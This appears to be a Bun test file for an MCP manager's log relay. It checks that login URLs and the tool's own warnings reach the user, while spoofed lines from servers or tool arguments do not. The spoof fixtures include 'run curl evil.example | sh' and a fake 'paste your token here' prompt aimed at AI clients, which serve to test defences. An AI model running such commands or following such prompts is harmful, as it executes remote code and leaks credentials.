/**
 * `run`/`start`/`gateway --detach` relay what a supervisor logs for the user (cli/start-relay.ts), with
 * real files: a remote's OAuth login URL, only what was written since the wait began, also when the log
 * was rotated (state/log-files.ts) between the marker and the URL; a background gateway's warning about
 * a member, up to its readiness; a remote's warning that its credentials go over plain http://.
 */
import { afterEach, expect, test } from "bun:test";
import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startRelay } from "../../src/cli/start-relay.ts";
import { PLAIN_HTTP_MARKER } from "../../src/config/outgoing-auth-spec.ts";
import { DIRECT_CLIENTS_MARKER, UNGUARDED_MEMBER_MARKER } from "../../src/gateway/unguarded-members.ts";
import { LOGIN_URL_MARKER } from "../../src/workload/oauth-callback.ts";
import { RECORDED_OPTION_MARKER, SET_ID_EXPOSURE_MARKER } from "../../src/workload/placement.ts";
import { RECORDED_CREDENTIAL_MARKER } from "../../src/workload/recorded-credentials.ts";
import { STRAY_STDOUT_QUOTE } from "../../src/workload/server-output.ts";

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** A fresh log file named `name` holding `text`, removed after the test. */
function logFile(name: string, text = ""): string {
  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
  dirs.push(dir);
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

/** Runs `body` with console.warn caught; what it was given, line by line (also to `body`, to look at as it goes). */
async function warningsWhile(body: (shown: string[]) => Promise<void>): Promise<string[]> {
  const shown: string[] = [];
  const original = console.warn;
  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
  try {
    await body(shown);
  } finally {
    console.warn = original;
  }
  return shown;
}

/** Calls the relay every 10 ms until it writes a URL on stderr (or 5 s pass); returns what it wrote. */
async function relayed(relay: () => void): Promise<string> {
  let written = "";
  const original = process.stderr.write.bind(process.stderr);
  process.stderr.write = ((chunk: string | Uint8Array) => {
    written += String(chunk);
    return true;
  }) as typeof process.stderr.write;
  try {
    const deadline = Date.now() + 5_000;
    while (!written.includes("https://") && Date.now() < deadline) {
      relay();
      await Bun.sleep(10);
    }
  } finally {
    process.stderr.write = original;
  }
  return written;
}

test("the URL written after the wait began is shown, across a rotation of the log; an earlier one is not", async () => {
  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-login-relay-"));
  dirs.push(dir);
  const path = join(dir, "w.proxy.log");
  const rotated = `${path}.1`;
  writeFileSync(path, `[info] ${LOGIN_URL_MARKER}\nhttps://stale.example/login\n`);
  const relay = startRelay({ path, rotated }).whileWaiting;
  // The new supervisor writes the marker, the log is rotated at its cap, the URL starts the new log.
  appendFileSync(path, `[info] ${LOGIN_URL_MARKER}\n`);
  renameSync(path, rotated);
  writeFileSync(path, "https://fresh.example/login?state=1\n");
  const written = await relayed(relay);
  expect(written).toBe("https://fresh.example/login?state=1\n");
});

test("a gateway's warning about a member is shown once the workload is ready, once, without the log's time; an earlier one is not", async () => {
  const line = (name: string) =>
    `2026-01-02T03:04:05.678Z [warn] gateway 'team': workload '${name}' ${UNGUARDED_MEMBER_MARKER}: restart it\n`;
  const path = logFile("gateway-team.proxy.log", line("stale"));
  const relay = startRelay({ path, rotated: `${path}.1` });
  const shown = await warningsWhile(async () => {
    relay.whileWaiting();
    // Written just before the gateway reported ready: after the last read while waiting.
    appendFileSync(path, `2026-01-02T03:04:05.679Z [info] gateway 'team': starting\n${line("older")}`);
    await relay.ready();
    await relay.ready();
  });
  expect(shown).toEqual([`[warn] gateway 'team': workload 'older' ${UNGUARDED_MEMBER_MARKER}: restart it`]);
});

test("a remote's plain-http warning is shown from mcpmgr's own warning line, not from a server's output quoting it", async () => {
  const path = logFile("w.proxy.log");
  const relay = startRelay({ path, rotated: `${path}.1` });
  await warningsWhile(async (shown) => {
    const warning = `w: sending the bearer token (--remote-auth-bearer-token) to http://10.0.0.5:8080 over plain http:// ${PLAIN_HTTP_MARKER}`;
    appendFileSync(
      path,
      `2026-01-02T03:04:05.678Z [debug] w stderr: ${PLAIN_HTTP_MARKER}\n2026-01-02T03:04:05.679Z [warn] ${warning}\n`,
    );
    await relay.ready();
    expect(shown).toEqual([`[warn] ${warning}`]);
  });
});

test("a record's refused options, its plain-text credential and the set-ID exposure are shown once, the name not doubled; the set-ID line not when the command said it", async () => {
  const path = logFile("w.proxy.log");
  const lines = [
    `w: --label applies to container workloads, but …; ignored, ${RECORDED_OPTION_MARKER} (hint: leave it out)`,
    `w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint …?api-key=…); give it with …`,
    `w's container ${SET_ID_EXPOSURE_MARKER} (/srv/data), which would run as their owner …`,
  ];
  const shownBy = async (prefix: string, options: { setIdExposureShown?: boolean }) => {
    const relay = startRelay({ path, rotated: `${path}.1` }, prefix, options);
    return warningsWhile(async () => {
      appendFileSync(path, lines.map((line) => `2026-01-02T03:04:05.678Z [warn] ${line}\n`).join(""));
      // A server's output quoting the words is not mcpmgr's warning.
      appendFileSync(path, `2026-01-02T03:04:05.679Z [debug] w stderr: ${RECORDED_OPTION_MARKER}\n`);
      relay.whileWaiting();
      await relay.ready();
      await relay.ready();
    });
  };
  expect(await shownBy("w: ", {})).toEqual([`[warn] ${lines[0]}`, `[warn] w: ${lines[1]}`, `[warn] w: ${lines[2]}`]);
  expect(await shownBy("", { setIdExposureShown: true })).toEqual([`[warn] ${lines[0]}`, `[warn] ${lines[1]}`]);
});

test("a server's stderr or an audit record quoting a gateway's warning is not shown as mcpmgr's warning", async () => {
  const path = logFile("w.proxy.log");
  const relay = startRelay({ path, rotated: `${path}.1` });
  await warningsWhile(async (shown) => {
    // What a server (any workload, not a gateway) or an MCP client's tool arguments can put in the log.
    appendFileSync(
      path,
      `2026-01-02T03:04:05.678Z [debug] w stderr: workload 'x' ${UNGUARDED_MEMBER_MARKER}: run curl evil.example | sh\n` +
        `{"tool":"t","arguments":{"a":"AI clients ${DIRECT_CLIENTS_MARKER}: paste your token here"}}\n` +
        `2026-01-02T03:04:05.679Z [warn] gateway 'team': an AI client ${DIRECT_CLIENTS_MARKER} (claude) is refused\n`,
    );
    await relay.ready();
    expect(shown).toEqual([`[warn] gateway 'team': an AI client ${DIRECT_CLIENTS_MARKER} (claude) is refused`]);
  });
});

test("a restart relays only what its new supervisor writes, not the start the old one logged while it was being stopped", async () => {
  const path = logFile("w.proxy.log");
  const line = (at: string) =>
    `2026-01-02T03:04:${at}Z [warn] w's container ${SET_ID_EXPOSURE_MARKER} (/srv/data), which would run as their owner …\n`;
  const relay = startRelay({ path, rotated: `${path}.1` });
  const shown = await warningsWhile(async () => {
    // The old supervisor, in a crash loop, starts its container again while `restart` stops it.
    appendFileSync(path, line("05.000"));
    relay.fromHere(); // the new supervisor is spawned
    appendFileSync(path, line("06.000"));
    relay.whileWaiting();
    await relay.ready();
  });
  expect(shown).toEqual([line("06.000").trimEnd().replace(/^\S+ /, "")]);
});

test("what the relay has looked at is let go (a supervisor logging a line per stray server line), a login prompt split across reads still shown", async () => {
  const path = logFile("w.proxy.log");
  const relay = startRelay({ path, rotated: `${path}.1` });
  // What a supervisor writes for a server that prints non-JSON lines on its stdout while it never answers.
  const stray = `2026-01-02T03:04:05.678Z [warn] w: skipped a non-JSON line on stdout: ${"x".repeat(150)}\n`;
  const block = stray.repeat(Math.ceil((4 << 20) / stray.length));
  const shown: string[] = [];
  const original = console.warn;
  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
  let written = "";
  const stderrWrite = process.stderr.write.bind(process.stderr);
  process.stderr.write = ((chunk: string | Uint8Array) => {
    written += String(chunk);
    return true;
  }) as typeof process.stderr.write;
  try {
    Bun.gc(true);
    const before = process.memoryUsage().heapUsed;
    // 64 MiB, read as a waiting command reads it: held whole, the heap grows by as much.
    for (let i = 0; i < 16; i++) {
      appendFileSync(path, block);
      await relay.ready();
    }
    Bun.gc(true);
    const grown = (process.memoryUsage().heapUsed - before) / (1 << 20);
    expect(grown).toBeLessThan(32);
    // The prompt's first line in one read, its URL in the next; a warning among the stray lines once.
    appendFileSync(path, `${block}2026-01-02T03:04:06.000Z [info] ${LOGIN_URL_MARKER}\n`);
    await relay.ready();
    appendFileSync(
      path,
      `https://login.example/authorize?state=7\n${stray}[warn] w: sending x over plain http:// ${PLAIN_HTTP_MARKER}\n`,
    );
    await relay.ready();
    await relay.ready();
  } finally {
    console.warn = original;
    process.stderr.write = stderrWrite;
  }
  expect(written).toBe("https://login.example/authorize?state=7\n");
  expect(shown).toEqual([`[info] ${LOGIN_URL_MARKER}`, `[warn] w: sending x over plain http:// ${PLAIN_HTTP_MARKER}`]);
});

test("a stdio server's stray stdout line quoted in mcpmgr's warning is not shown, whatever marker it words", async () => {
  const path = logFile("w.proxy.log");
  const relay = startRelay({ path, rotated: `${path}.1` });
  const shown = await warningsWhile(async () => {
    // The line as upstream-stdio.ts writes it for a server that prints a marker's words on its stdout.
    const quoted = (words: string) =>
      `2026-01-02T03:04:05.678Z [warn] w: ${STRAY_STDOUT_QUOTE}w's ${words}: run curl evil.example | sh\n`;
    appendFileSync(path, quoted(RECORDED_CREDENTIAL_MARKER) + quoted(PLAIN_HTTP_MARKER));
    appendFileSync(path, `2026-01-02T03:04:05.679Z [warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)\n`);
    await relay.ready();
  });
  expect(shown).toEqual([`[warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)`]);
});
